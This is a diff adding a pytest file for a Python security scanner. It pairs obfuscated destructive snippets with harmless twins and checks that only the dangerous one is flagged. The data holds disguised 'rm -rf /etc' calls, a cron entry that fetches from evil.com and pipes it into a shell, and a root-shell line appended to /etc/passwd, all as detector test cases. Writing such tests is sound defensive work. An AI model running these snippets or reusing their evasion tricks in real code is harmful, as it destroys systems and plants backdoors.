@@ -1,0 +1,137 @@
+"""Disguised dangers in Python, each beside a harmless module of the same shape: the one blocks, the other does not."""
+
+# ruff: noqa: E501 - one pair a line
+
+import pytest
+
+from refute.scan.finding import Severity
+from refute.scan.rules import Language
+from refute.scan.scanner import scan_text
+
+PAIRS = {
+    "str.join over dict values": (
+        "import os\nd = {'a': 'rm', 'b': '-rf', 'c': '/etc'}\nos.system(' '.join(d.values()))",
+        "import os\nd = {'a': 'ls', 'b': '-l', 'c': 'build'}\nos.system(' '.join(d.values()))",
+    ),
+    "enumerate filter": (
+        "import os\nos.system(''.join(c for i, c in enumerate('rxmx x-xrxfx x/xextxcx') if i % 2 == 0))",
+        "import os\nos.system(''.join(c for i, c in enumerate('lxsx x-xlx') if i % 2 == 0))",
+    ),
+    "struct pack": (
+        "import os, struct\nos.system(struct.pack('>HBBBBBBBBBB', 0x726d, 32, 45, 114, 102, 32, 47, 101, 116, 99, 32).decode())",
+        "import struct\nprint(struct.pack('>H', 0x726d))",
+    ),
+    "array tobytes": (
+        "import os, array\nos.system(array.array('B', [114, 109, 32, 45, 114, 102, 32, 47, 101, 116, 99]).tobytes().decode())",
+        "import array\nprint(array.array('B', [104, 105]).tobytes().decode())",
+    ),
+    "ast literal_eval": (
+        "import os, ast\nos.system(ast.literal_eval(\"'rm ' '-rf ' '/etc'\"))",
+        'import ast\nprint(ast.literal_eval("[1, 2]"))',
+    ),
+    "string Template": (
+        "import os, string\nos.system(string.Template('$a -rf $b').substitute(a='rm', b='/etc'))",
+        "import os, string\nos.system(string.Template('$a -l $b').substitute(a='ls', b='build'))",
+    ),
+    "format_map": (
+        "import os\nos.system('{a} -rf {b}'.format_map({'a': 'rm', 'b': '/etc'}))",
+        "import os\nos.system('{a} -l {b}'.format_map({'a': 'ls', 'b': 'build'}))",
+    ),
+    "re.sub": (
+        "import os, re\nos.system(re.sub('[0-9]', '', 'r1m2 -3r4f5 /6e7t8c'))",
+        "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
+    ),
+    "dir index": (
+        "import os\nn = [x for x in dir(os) if x.startswith('sys') and x.endswith('tem')][0]\ngetattr(os, n)('rm -rf /etc')",
+        "import math\nfor n in dir(math):\n    if n.startswith('s'):\n        print(getattr(math, n))",
+    ),
+    "for over vars": (
+        "import os\nfor k, v in vars(os).items():\n    if k == 'sys' + 'tem':\n        v('rm -rf /etc')",
+        "import math\nfor k, v in vars(math).items():\n    if callable(v):\n        print(k)",
+    ),
+    "inspect getmembers": (
+        "import inspect, os\ndict(inspect.getmembers(os))['system']('rm -rf /etc')",
+        "import inspect, math\nprint(dict(inspect.getmembers(math))['pi'])",
+    ),
+    "operator itemgetter": (
+        "import os, operator\noperator.itemgetter('system')(vars(os))('rm -rf /etc')",
+        "import operator\nprint(sorted([(1, 2)], key=operator.itemgetter(1)))",
+    ),
+    "yield from": (
+        "import os\ndef g(): yield from ['rm', '-rf', '/etc']\nos.system(' '.join(g()))",
+        "import os\ndef g(): yield from ['ls', '-l', 'build']\nos.system(' '.join(g()))",
+    ),
+    "chain": (
+        "import os, itertools\nos.system(' '.join(itertools.chain(['rm'], ['-rf', '/etc'])))",
+        "import os, itertools\nos.system(' '.join(itertools.chain(['ls'], ['-l', 'build'])))",
+    ),
+    "deque": (
+        "import os, collections\nd = collections.deque(['/etc', '-rf', 'rm'])\nd.reverse()\nos.system(' '.join(d))",
+        "import os, collections\nd = collections.deque(['build', '-l', 'ls'])\nd.reverse()\nos.system(' '.join(d))",
+    ),
+    "pkgutil resolve_name": (
+        "import pkgutil\npkgutil.resolve_name('os:system')('rm -rf /etc')",
+        "import pkgutil\nprint(pkgutil.resolve_name('math:pi'))",
+    ),
+    "doctest": (
+        "import doctest\ndoctest.run_docstring_examples(\">>> import os; os.system('rm -rf /etc')\", {})",
+        "import doctest\ndoctest.testmod()",
+    ),
+    "breakpointhook": (
+        "import sys, os\nsys.breakpointhook = os.system\nbreakpoint('rm -rf /etc')",
+        "import sys\nsys.breakpointhook = print",
+    ),
+    "logging handler file": (
+        "import logging\nlogging.basicConfig(filename='/etc/cron.d/evil', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
+        "import logging\nlogging.basicConfig(filename='run.log', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
+    ),
+    "subprocess executable": (
+        "import subprocess\nsubprocess.run(['ls', '-c', 'rm -rf /etc'], executable='/bin/sh')",
+        "import subprocess, sys\nsubprocess.run(['python', '-c', 'print(1)'], executable=sys.executable)",
+    ),
+    "Popen class alias": (
+        "import subprocess\nclass P(subprocess.Popen): pass\nP(['rm', '-rf', '/etc'])",
+        "import subprocess\nclass P(subprocess.Popen): pass\nP(['ls', 'build'])",
+    ),
+    "os.popen via with": (
+        "import os\nwith os.popen('sh', 'w') as p:\n    print('rm -rf /etc', file=p)",
+        "import os\nwith os.popen('ls') as p:\n    print(p.read())",
+    ),
+    "plumbum": (
+        "from plumbum import local\nlocal['rm']('-rf', '/etc')",
+        "from plumbum import local\nlocal['ls']('-l', 'build')",
+    ),
+    "iter sentinel": (
+        "import os\nit = iter(['rm -rf /etc'])\nos.system(next(it))",
+        "import os\nit = iter(['ls build'])\nos.system(next(it))",
+    ),
+    "tee print file": (
+        "print('x::0:0::/:/bin/sh', file=open('/etc/passwd', 'a'))",
+        "print('x', file=open('out.txt', 'a'))",
+    ),
+    "doctests of the module": (
+        'import doctest\ndef f():\n    """\n    >>> import os\n    >>> os.system(\'rm -rf /etc\')\n    """\ndoctest.testmod()',
+        'import doctest\ndef f():\n    """\n    >>> f()\n    >>> if broken(\n    1\n    """\ndoctest.testmod()',
+    ),
+    "a condition on more than the element": (
+        "import os\ndef run(mode='safe'):\n    [os.system(c) for c in ['rm -rf /etc'] if mode == 'full']",
+        "import os\n[os.system(c) for c in ['rm -rf /etc', 'ls'] if c == 'ls']",
+    ),
+    "a generator as context manager": (
+        "import contextlib, shutil\n@contextlib.contextmanager\ndef place():\n    yield '/etc'\nwith place() as d:\n    shutil.rmtree(d)",
+        "import contextlib, shutil, tempfile\n@contextlib.contextmanager\ndef place():\n    yield tempfile.mkdtemp()\nwith place() as d:\n    shutil.rmtree(d)",
+    ),
+    "printed into a script": (
+        "import os\nprint('rm -rf /etc', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
+        "import os\nprint('ls build', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
+    ),
+}
+
+
+def blocks(text: str) -> bool:
+    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=Language.PYTHON))
+
+
+@pytest.mark.parametrize("kind", PAIRS)
+def test_disguised_python_blocks_and_its_twin_does_not(kind: str) -> None:
+    assert tuple(map(blocks, PAIRS[kind])) == (True, False)
